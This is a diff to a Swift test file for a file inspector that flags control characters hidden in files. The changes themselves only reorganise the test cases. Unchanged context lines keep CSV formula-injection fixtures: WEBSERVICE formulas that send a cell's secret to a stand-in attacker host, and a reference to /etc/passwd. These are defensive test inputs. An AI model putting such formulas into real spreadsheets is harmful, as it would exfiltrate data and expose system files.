@@ -42,7 +42,8 @@ struct Round8Tests {
         ("data.csv", "secret,=WEBSERVICE\u{00}(\"https://evil.example/?\"&A1)\n", true),
         ("data.csv", "secret,\u{00}=WEBSERVICE(\"https://evil.example/?\"&A1)\n", true),
         ("data.csv", "x,='file:///etc/passwd'\u{00}#$passwd.A1\n", true),
-        ("notes.txt", "bell\u{07} backspace\u{08} vertical tab\u{0B} separator\u{1F} delete\u{7F}\n", false),
+        ("notes.txt", "bell\u{07}\n", false), ("notes.txt", "backspace\u{08}\n", false), ("notes.txt", "separator\u{1F}\n", false),
+        ("notes.txt", "delete\u{7F}\n", false),
     ])
     func aControlCharacterPastTheTypedPrefixIsATypeMismatch(_ name: String, _ tail: String, _ rows: Bool) async throws {
         let verdict = try await inspect(Self.padded(tail, rows: rows), name: name)
@@ -50,9 +51,9 @@ struct Round8Tests {
         #expect(verdict.reasons.contains { $0.code == .typeMismatch && $0.detail.contains("control character") }, "\(verdict.reasons)")
     }
 
-    /// Tabs, form feeds, CRLF and terminal colours are text.
+    /// Tabs, form feeds, CRLF, terminal colours and FileMaker's vertical-tab line breaks in CSV fields are text.
     @Test func textWithTabsFormFeedsAndColoursStaysClean() async throws {
-        let verdict = try await inspect(Self.padded("a\tb\r\n\u{0C}\n\u{1B}[31merror\u{1B}[0m: build failed\n"), name: "build.txt")
+        let verdict = try await inspect(Self.padded("a\tb\r\n\u{0C}\n\u{1B}[31merror\u{1B}[0m: build failed\nline\u{0B}break\n"), name: "build.txt")
         #expect(verdict.outcome == .clean, "\(verdict)")
     }
 
